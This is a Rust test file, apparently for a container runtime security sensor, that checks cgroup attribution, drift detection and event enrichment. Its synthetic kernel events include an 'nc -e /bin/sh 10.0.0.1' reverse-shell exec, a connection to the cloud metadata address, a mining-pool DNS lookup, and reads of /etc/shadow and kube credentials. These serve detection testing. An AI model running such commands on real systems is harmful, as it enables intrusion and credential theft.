//! Attribution against the real cgroup2 mount: directories laid out as containerd (systemd and
//! cgroupfs drivers), CRI-O, Docker and podman create them, a real child process moved into each
//! through `cgroup.procs`, and kernel records built by hand with the directory's inode as the
//! cgroup id, exactly what `bpf_get_current_cgroup_id` reports for that process.
//!
//! Needs root (creating cgroups). Fails without it unless `PALISADE_SKIP_BPF_TESTS=1`.

use palisade_detect::node::NodeEventKind;
use palisade_sensor::attrib::cgroup::find_cgroup2_mount;
use palisade_sensor::attrib::enrich::boot_clock_nanos;
use palisade_sensor::attrib::proctable::process_start_boot_ns;
use palisade_sensor::attrib::{AttribConfig, Enricher, PodCache};
use palisade_sensor::kernel::event::{
    ExecRecord, KernelEvent, KernelPayload, SocketRecord, StdioKind, WriteMark,
};
use std::net::IpAddr;
use std::os::unix::fs::MetadataExt;
use std::path::{Path, PathBuf};
use std::process::{Child, Command, Stdio};
use std::time::{Duration, Instant};

const CID: &str = "0c1d2e3f405162738495a6b7c8d9eaf00112233445566778899aabbccddeeff0";
const UID: &str = "5e0b6c1a-2f3d-4a5b-8c7d-9e0f1a2b3c4d";

/// A tree of cgroup directories and the processes moved into them; removed on drop.
struct CgroupSandbox {
    root: PathBuf,
    base: PathBuf,
    dirs: Vec<PathBuf>,
    children: Vec<Child>,
}

impl CgroupSandbox {
    /// `None` (test skipped) only when PALISADE_SKIP_BPF_TESTS=1 and cgroups cannot be created.
    fn new(name: &str) -> Option<CgroupSandbox> {
        let mountinfo = std::fs::read_to_string("/proc/self/mountinfo").expect("mountinfo");
        let root = find_cgroup2_mount(&mountinfo).expect("a cgroup2 mount");
        let base = root.join(format!("palisade-attrib-{name}-{}", std::process::id()));
        let _ = std::fs::remove_dir(&base);
        if let Err(e) = std::fs::create_dir(&base) {
            if std::env::var("PALISADE_SKIP_BPF_TESTS").as_deref() == Ok("1") {
                eprintln!("SKIP: cannot create {}: {e}", base.display());
                return None;
            }
            panic!(
                "cannot create cgroup {}: {e} (run as root, or set PALISADE_SKIP_BPF_TESTS=1)",
                base.display()
            );
        }
        Some(CgroupSandbox {
            root,
            dirs: vec![base.clone()],
            base,
            children: Vec::new(),
        })
    }

    /// Creates `rel` (and parents) under the sandbox; returns the leaf.
    fn mkdir(&mut self, rel: &str) -> PathBuf {
        let mut dir = self.base.clone();
        for part in rel.split('/') {
            dir = dir.join(part);
            if !dir.exists() {
                std::fs::create_dir(&dir)
                    .unwrap_or_else(|e| panic!("mkdir {}: {e}", dir.display()));
                self.dirs.push(dir.clone());
            }
        }
        dir
    }

    /// Starts a long sleep and moves it into `dir`. Returns its pid.
    fn spawn_in(&mut self, dir: &Path) -> u32 {
        let child = Command::new("sleep")
            .arg("600")
            .stdin(Stdio::null())
            .spawn()
            .expect("spawn sleep");
        let pid = child.id();
        self.children.push(child);
        std::fs::write(dir.join("cgroup.procs"), pid.to_string())
            .unwrap_or_else(|e| panic!("move {pid} into {}: {e}", dir.display()));
        let want = format!("0::/{}", dir.strip_prefix(&self.root).unwrap().display());
        let text = std::fs::read_to_string(format!("/proc/{pid}/cgroup")).unwrap();
        assert!(
            text.lines().any(|l| l == want),
            "{pid} not in {want}: {text}"
        );
        pid
    }
}

impl Drop for CgroupSandbox {
    fn drop(&mut self) {
        for child in &mut self.children {
            let _ = child.kill();
            let _ = child.wait();
        }
        for dir in self.dirs.iter().rev() {
            // Anything still inside (a grandchild the test did not reap) dies with the cgroup.
            let _ = std::fs::write(dir.join("cgroup.kill"), "1");
            // A killed task leaves its cgroup asynchronously: retry briefly.
            let deadline = Instant::now() + Duration::from_secs(10);
            while std::fs::remove_dir(dir).is_err() && dir.exists() && Instant::now() < deadline {
                std::thread::sleep(Duration::from_millis(20));
            }
        }
    }
}

fn cgroup_id(dir: &Path) -> u64 {
    std::fs::metadata(dir).expect("stat cgroup").ino()
}

fn event(cgroup_id: u64, pid: u32, payload: KernelPayload) -> KernelEvent {
    KernelEvent {
        time_boot_ns: boot_clock_nanos(),
        cgroup_id,
        pid,
        tid: pid,
        ppid: std::process::id(),
        uid: 0,
        gid: 0,
        euid: 0,
        comm: "sleep".into(),
        pid_ns: 4026531836,
        mnt_ns: 4026531841,
        cap_effective: (1 << 21) | (1 << 12),
        payload,
    }
}

fn open(path: &str) -> KernelPayload {
    KernelPayload::Open {
        path: path.into(),
        flags: 0,
    }
}

fn new_enricher(root: &Path, pods: PodCache) -> Enricher {
    Enricher::new(
        AttribConfig {
            cgroup_root: root.to_path_buf(),
            node_name: "node-a".into(),
            cluster: Some("prod".into()),
            ..AttribConfig::default()
        },
        pods,
    )
    .expect("enricher")
}

#[test]
fn runtime_layouts_attribute_real_processes() {
    let Some(mut sandbox) = CgroupSandbox::new("layouts") else {
        return;
    };
    let uid_ = UID.replace('-', "_");
    let layouts: Vec<(String, &str, Option<&str>)> = vec![
        (
            format!(
                "kubepods.slice/kubepods-burstable.slice/kubepods-burstable-pod{uid_}.slice/cri-containerd-{CID}.scope"
            ),
            "containerd",
            Some(UID),
        ),
        (
            format!("kubepods/besteffort/pod{UID}/{CID}"),
            "containerd",
            Some(UID),
        ),
        (
            format!(
                "kubepods.slice/kubepods-besteffort.slice/kubepods-besteffort-pod{uid_}.slice/crio-{CID}.scope"
            ),
            "cri-o",
            Some(UID),
        ),
        (format!("system.slice/docker-{CID}.scope"), "docker", None),
        (format!("docker/{CID}"), "docker", None),
        (format!("machine.slice/libpod-{CID}.scope"), "podman", None),
    ];
    let mut placed = Vec::new();
    for (rel, runtime, pod_uid) in &layouts {
        let dir = sandbox.mkdir(rel);
        let pid = sandbox.spawn_in(&dir);
        placed.push((dir, pid, *runtime, *pod_uid));
    }
    let conmon = sandbox.mkdir(&format!(
        "kubepods.slice/kubepods-besteffort.slice/kubepods-besteffort-pod{uid_}.slice/crio-conmon-{CID}.scope"
    ));
    let conmon_pid = sandbox.spawn_in(&conmon);
    let host = sandbox.mkdir("system.slice/sshd.service");
    let host_pid = sandbox.spawn_in(&host);

    let mut enricher = new_enricher(&sandbox.root, PodCache::new());
    for (dir, pid, runtime, pod_uid) in &placed {
        let out = enricher.enrich(event(cgroup_id(dir), *pid, open("/etc/shadow")));
        let container = out
            .container
            .unwrap_or_else(|| panic!("{} not attributed", dir.display()));
        assert_eq!(container.id, CID, "{}", dir.display());
        assert_eq!(container.runtime, *runtime, "{}", dir.display());
        assert_eq!(container.pod_uid.as_deref(), *pod_uid, "{}", dir.display());
        assert!(!out.host);
        assert_eq!(out.kind, NodeEventKind::Open);
        let exe = std::fs::read_link(format!("/proc/{pid}/exe")).expect("exe");
        assert_eq!(out.process.exe, exe.to_string_lossy());
        assert_eq!(out.process.cmdline, "sleep 600");
    }
    for (dir, pid) in [(&conmon, conmon_pid), (&host, host_pid)] {
        let out = enricher.enrich(event(cgroup_id(dir), pid, open("/etc/shadow")));
        assert!(
            out.container.is_none(),
            "{} is not a container",
            dir.display()
        );
        assert!(out.host, "{} is the host", dir.display());
    }
    let counters = enricher.counters();
    assert_eq!(counters.container_events, layouts.len() as u64);
    assert_eq!(counters.host_events, 2);
    assert!(
        counters.cgroups.resolved_via_proc >= layouts.len() as u64,
        "{counters:?}"
    );
    // Second round: all from the cache.
    let hits = counters.cgroups.hits;
    for (dir, pid, _, _) in &placed {
        assert!(
            enricher
                .enrich(event(cgroup_id(dir), *pid, open("/x")))
                .container
                .is_some()
        );
    }
    assert_eq!(enricher.counters().cgroups.hits, hits + placed.len() as u64);
}

#[test]
fn miss_without_a_live_process_walks_the_tree_and_unknown_ids_are_counted() {
    let Some(mut sandbox) = CgroupSandbox::new("walk") else {
        return;
    };
    let mut enricher = new_enricher(&sandbox.root, PodCache::new());
    // Created after the enricher started, and no process to ask: only a walk can find it.
    let dir = sandbox.mkdir(&format!("system.slice/docker-{CID}.scope"));
    let out = enricher.enrich(event(cgroup_id(&dir), 0, open("/x")));
    assert_eq!(out.container.expect("found by the walk").runtime, "docker");
    assert!(enricher.counters().cgroups.walks >= 1);
    assert_eq!(
        enricher.counters().cgroups.resolved_via_proc,
        0,
        "pid 0 has no /proc entry"
    );

    // A cgroup that is gone: neither container nor host, counted.
    let gone = sandbox.mkdir("short-lived");
    let gone_id = cgroup_id(&gone);
    std::fs::remove_dir(&gone).expect("rmdir");
    sandbox.dirs.retain(|d| d != &gone);
    let out = enricher.enrich(event(gone_id, 0, open("/x")));
    assert!(out.container.is_none());
    assert!(!out.host, "an unplaceable cgroup is not claimed as host");
    assert_eq!(enricher.counters().unknown_cgroup_events, 1);
    // The negative cache answers the next one without another walk.
    let walks = enricher.counters().cgroups.walks;
    enricher.enrich(event(gone_id, 0, open("/x")));
    assert_eq!(enricher.counters().cgroups.walks, walks);
    assert_eq!(enricher.counters().unknown_cgroup_events, 2);
}

fn pod_with(container_id: &str, started: &str) -> k8s_openapi::api::core::v1::Pod {
    serde_json::from_value(serde_json::json!({
        "metadata": {"name": "shop-web-7d9", "namespace": "shop", "uid": UID},
        "spec": {"nodeName": "node-a", "containers": [
            {"name": "web", "image": "nginx:1.27", "securityContext": {"privileged": true}}]},
        "status": {"containerStatuses": [{
            "name": "web", "image": "docker.io/library/nginx:1.27", "imageID": "sha256:feed",
            "containerID": format!("containerd://{container_id}"), "ready": true, "restartCount": 0,
            "state": {"running": {"startedAt": started}}}]}
    }))
    .expect("pod")
}

fn exec(filename: &str, written: Option<WriteMark>) -> KernelPayload {
    KernelPayload::Exec(ExecRecord {
        filename: filename.into(),
        args: vec![filename.into(), "-x".into()],
        stdio: [
            StdioKind::SocketInet,
            StdioKind::SocketInet,
            StdioKind::Pipe,
        ],
        exe_written: written,
        parent_pid: std::process::id(),
        parent_comm: "attrib_cgroup".into(),
        ..ExecRecord::default()
    })
}

fn wait_until_older_than(pid: u32, age: Duration) -> u64 {
    let start = process_start_boot_ns(Path::new("/proc"), pid).expect("start time");
    let deadline = Instant::now() + Duration::from_secs(30);
    while boot_clock_nanos().saturating_sub(start) < age.as_nanos() as u64 {
        assert!(Instant::now() < deadline);
        std::thread::sleep(Duration::from_millis(10));
    }
    start
}

#[test]
fn drift_against_container_start_from_cgroup_and_from_pod_cache() {
    let Some(mut sandbox) = CgroupSandbox::new("drift") else {
        return;
    };
    let uid_ = UID.replace('-', "_");
    let dir = sandbox.mkdir(&format!(
        "kubepods.slice/kubepods-pod{uid_}.slice/cri-containerd-{CID}.scope"
    ));
    let pid = sandbox.spawn_in(&dir);
    let id = cgroup_id(&dir);
    let started = wait_until_older_than(pid, Duration::from_millis(200));

    // No pod information: the container's oldest process marks its start.
    let mut enricher = new_enricher(&sandbox.root, PodCache::new());
    let mark = |ns_before_exec: u64, writer_cgroup_id: u64| WriteMark {
        writer_comm: "curl".into(),
        writer_pid: 4242,
        ns_before_exec,
        writer_cgroup_id,
    };
    let now = boot_clock_nanos();
    let before_start = now - started + 5_000_000_000;
    let mut e = event(id, pid, exec("/tmp/dropped", Some(mark(before_start, 1))));
    e.time_boot_ns = now;
    let out = enricher.enrich(e);
    assert!(
        !out.process.exe_drift,
        "written before the container started"
    );
    assert_eq!(out.process.exe_written_by.as_deref(), Some("curl"));
    assert_eq!(
        out.process.exe_written_ms_ago,
        Some(before_start / 1_000_000)
    );
    let out = enricher.enrich(event(
        id,
        pid,
        exec("/tmp/dropped", Some(mark(1_000_000, 1))),
    ));
    assert!(
        out.process.exe_drift,
        "written 1 ms ago, after the container started"
    );
    assert_eq!(
        out.process.stdio,
        vec!["socket_inet", "socket_inet", "pipe"]
    );
    assert_eq!(out.process.cmdline, "/tmp/dropped -x");
    assert_eq!(
        out.process.capabilities,
        vec!["CAP_NET_ADMIN", "CAP_SYS_ADMIN"]
    );
    // Written by a process of the same container: drift whatever the times say.
    let mut e = event(id, pid, exec("/tmp/dropped", Some(mark(before_start, id))));
    e.time_boot_ns = now;
    assert!(enricher.enrich(e).process.exe_drift);
    // Never written, on the image layer: no drift; on the overlay upper layer: drift.
    assert!(
        !enricher
            .enrich(event(id, pid, exec("/bin/ls", None)))
            .process
            .exe_drift
    );
    let mut upper = event(id, pid, exec("/bin/new", None));
    if let KernelPayload::Exec(rec) = &mut upper.payload {
        rec.exe_upper_layer = true;
    }
    assert!(enricher.enrich(upper).process.exe_drift);

    // With the pod cache: pod fields filled, and its start time (an hour from now, so every
    // write is "before") decides instead of the cgroup's processes.
    let pods = PodCache::new();
    let future = time::OffsetDateTime::now_utc() + time::Duration::hours(1);
    let started_at = future
        .replace_nanosecond(0)
        .expect("ns")
        .format(&time::format_description::well_known::Rfc3339)
        .expect("format");
    pods.upsert(&pod_with(CID, &started_at));
    let mut with_pods = new_enricher(&sandbox.root, pods);
    let out = with_pods.enrich(event(
        id,
        pid,
        exec("/tmp/dropped", Some(mark(1_000_000, 1))),
    ));
    let container = out.container.expect("container");
    assert_eq!(container.pod_name.as_deref(), Some("shop-web-7d9"));
    assert_eq!(container.pod_namespace.as_deref(), Some("shop"));
    assert_eq!(container.pod_uid.as_deref(), Some(UID));
    assert_eq!(container.name.as_deref(), Some("web"));
    assert_eq!(
        container.image.as_deref(),
        Some("docker.io/library/nginx:1.27")
    );
    assert_eq!(container.image_id.as_deref(), Some("sha256:feed"));
    assert_eq!(container.privileged, Some(true));
    assert_eq!(
        container.started_nanos,
        Some(future.replace_nanosecond(0).unwrap().unix_timestamp_nanos() as i64)
    );
    assert!(
        !out.process.exe_drift,
        "the pod says the container starts later"
    );
    assert_eq!(with_pods.counters().pod_hits, 1);
}

#[test]
fn host_drift_is_relative_to_sensor_start() {
    let Some(mut sandbox) = CgroupSandbox::new("hostdrift") else {
        return;
    };
    let dir = sandbox.mkdir("system.slice/cron.service");
    let pid = sandbox.spawn_in(&dir);
    let start = boot_clock_nanos();
    let mut enricher = Enricher::new(
        AttribConfig {
            cgroup_root: sandbox.root.clone(),
            node_name: "node-a".into(),
            sensor_start_boot_ns: Some(start),
            boot_to_unix_nanos: Some(1_000),
            ..AttribConfig::default()
        },
        PodCache::new(),
    )
    .expect("enricher");
    let mark = |ns: u64| WriteMark {
        writer_comm: "vi".into(),
        writer_pid: 1,
        ns_before_exec: ns,
        writer_cgroup_id: 1,
    };
    let mut e = event(
        cgroup_id(&dir),
        pid,
        exec("/usr/local/bin/x", Some(mark(0))),
    );
    e.time_boot_ns = start + 10;
    let out = enricher.enrich(e);
    assert!(out.host);
    assert!(out.process.exe_drift, "written after the sensor started");
    assert_eq!(out.time_nanos, (start + 10) as i64 + 1_000);
    let mut e = event(
        cgroup_id(&dir),
        pid,
        exec("/usr/local/bin/x", Some(mark(20))),
    );
    e.time_boot_ns = start + 10;
    assert!(!enricher.enrich(e).process.exe_drift);
}

#[test]
fn lineage_payloads_and_process_table() {
    let Some(mut sandbox) = CgroupSandbox::new("lineage") else {
        return;
    };
    let dir = sandbox.mkdir("system.slice/app.service");
    // sh stays the parent of sleep (the `; true` keeps sh from exec'ing it).
    let mut shell = Command::new("sh")
        .args(["-c", "sleep 600; true"])
        .stdin(Stdio::null())
        .spawn()
        .expect("sh");
    let sh_pid = shell.id();
    let deadline = Instant::now() + Duration::from_secs(30);
    let sleep_pid = loop {
        let children = std::fs::read_to_string(format!("/proc/{sh_pid}/task/{sh_pid}/children"))
            .unwrap_or_default();
        // The child is listed from its fork: wait until it has exec'd sleep.
        if let Some(pid) = children
            .split_whitespace()
            .next()
            .and_then(|p| p.parse::<u32>().ok())
            && std::fs::read(format!("/proc/{pid}/cmdline"))
                .is_ok_and(|c| c.starts_with(b"sleep\0"))
        {
            break pid;
        }
        assert!(Instant::now() < deadline, "sh did not start sleep");
        std::thread::sleep(Duration::from_millis(10));
    };
    std::fs::write(dir.join("cgroup.procs"), sleep_pid.to_string()).expect("move");
    let id = cgroup_id(&dir);
    let mut enricher = new_enricher(&sandbox.root, PodCache::new());

    let mut e = event(id, sleep_pid, open("/root/.kube/config"));
    e.ppid = sh_pid;
    let out = enricher.enrich(e);
    assert_eq!(out.process.parent.pid, sh_pid);
    assert_eq!(out.process.parent.cmdline, "sh -c sleep 600; true");
    let sh_exe = std::fs::read_link(format!("/proc/{sh_pid}/exe")).unwrap();
    assert_eq!(out.process.parent.exe, sh_exe.to_string_lossy());
    let me = std::env::current_exe().unwrap();
    let me = me.file_name().unwrap().to_string_lossy();
    assert_eq!(
        out.process.ancestors.first().map(String::as_str),
        Some(&*me)
    );
    let file = out.file.expect("file");
    assert_eq!(
        (file.path.as_str(), file.access.as_str()),
        ("/root/.kube/config", "read")
    );
    assert!(out.id.starts_with("node-a-"), "{}", out.id);

    // An exec record replaces what the table knows; later events of the pid use it, and the
    // exec'ing process becomes the parent of what it starts.
    let fake = 4_000_001;
    let mut e = event(id, fake, exec("/usr/bin/nc", None));
    if let KernelPayload::Exec(rec) = &mut e.payload {
        rec.args = vec![
            "nc".into(),
            "-e".into(),
            "/bin/sh".into(),
            "10.0.0.1".into(),
        ];
        rec.parent_pid = sleep_pid;
    }
    let out = enricher.enrich(e);
    assert_eq!(out.process.ppid, sleep_pid);
    assert_eq!(out.process.parent.cmdline, "sleep 600");
    let sh_name = sh_exe.file_name().unwrap().to_string_lossy();
    assert_eq!(
        out.process.ancestors.first().map(String::as_str),
        Some(&*sh_name)
    );
    let mut e = event(
        id,
        fake,
        KernelPayload::Connect(SocketRecord {
            protocol: 6,
            src: "::ffff:10.1.2.3".parse::<IpAddr>().unwrap(),
            src_port: 40000,
            dst: "::ffff:169.254.169.254".parse::<IpAddr>().unwrap(),
            dst_port: 80,
        }),
    );
    e.ppid = sleep_pid;
    let out = enricher.enrich(e);
    assert_eq!(out.process.exe, "/usr/bin/nc");
    assert_eq!(out.process.cmdline, "nc -e /bin/sh 10.0.0.1");
    let net = out.net.expect("net");
    assert_eq!(
        (
            net.family.as_str(),
            net.dst_ip.as_str(),
            net.protocol.as_str(),
            net.direction.as_str()
        ),
        ("ipv4", "169.254.169.254", "tcp", "outbound")
    );
    let mut child = event(id, fake + 1, open("/etc/passwd"));
    child.ppid = fake;
    let out = enricher.enrich(child);
    assert_eq!(out.process.parent.exe, "/usr/bin/nc");
    assert_eq!(
        out.process.ancestors.first().map(String::as_str),
        Some("sleep")
    );
    enricher.enrich(event(id, fake, KernelPayload::Exit { exit_code: 0 }));
    let out = enricher.enrich(event(
        id,
        fake,
        KernelPayload::Ptrace {
            request: 0x4206,
            target_pid: sh_pid,
        },
    ));
    assert_eq!(
        out.process.exe, "/usr/bin/nc",
        "kept after exit for late events"
    );
    let ptrace = out.ptrace.expect("ptrace");
    assert_eq!(
        (ptrace.request.as_str(), ptrace.target_comm.as_str()),
        ("seize", "sh")
    );
    let ns = enricher
        .enrich(event(
            id,
            fake,
            KernelPayload::Namespace {
                syscall: "unshare",
                flags: 0x4000_0000 | 0x2_0000,
            },
        ))
        .namespace
        .expect("ns");
    assert_eq!(ns.types, vec!["mnt", "net"]);
    let mut dns = vec![0xab, 0xcd, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0];
    dns.extend_from_slice(b"\x04pool\x0asupportxmr\x03com\x00\x00\x10\x00\x01");
    let out = enricher.enrich(event(
        id,
        fake,
        KernelPayload::Dns {
            server: "10.96.0.10".parse().unwrap(),
            server_port: 53,
            payload: dns,
        },
    ));
    let dns = out.dns.expect("dns");
    assert_eq!(
        (dns.query.as_str(), dns.qtype.as_str(), dns.server.as_str()),
        ("pool.supportxmr.com", "TXT", "10.96.0.10")
    );
    let out = enricher.enrich(event(
        id,
        fake,
        KernelPayload::Dns {
            server: "10.96.0.10".parse().unwrap(),
            server_port: 53,
            payload: vec![0xff; 7],
        },
    ));
    assert_eq!(out.dns.expect("still an event").query, "");
    assert_eq!(enricher.counters().dns_parse_errors, 1);
    let chmod = enricher
        .enrich(event(
            id,
            fake,
            KernelPayload::Chmod {
                path: "/tmp/x".into(),
                mode: 0o755,
                written_recently: true,
            },
        ))
        .file
        .expect("chmod");
    assert_eq!(
        (chmod.mode, chmod.written_recently, chmod.access.as_str()),
        (0o755, true, "chmod")
    );
    let write = enricher
        .enrich(event(
            id,
            fake,
            KernelPayload::Open {
                path: "/etc/ld.so.preload".into(),
                flags: 0o1 | 0o100 | 0o1000,
            },
        ))
        .file
        .expect("open");
    assert_eq!(write.access, "create");

    // SAFETY: plain kill(2) of the sleep this test started (sh's child, not ours to wait for).
    unsafe { libc::kill(sleep_pid as i32, libc::SIGKILL) };
    let _ = shell.kill();
    let _ = shell.wait();
}

#[test]
fn a_directory_that_is_not_cgroup2_is_refused() {
    let dir = tempfile::tempdir().unwrap();
    let err = Enricher::new(
        AttribConfig {
            cgroup_root: dir.path().to_path_buf(),
            ..AttribConfig::default()
        },
        PodCache::new(),
    )
    .err()
    .expect("not a cgroup2 mount");
    assert!(err.to_string().contains("not a cgroup2 mount"), "{err}");
}
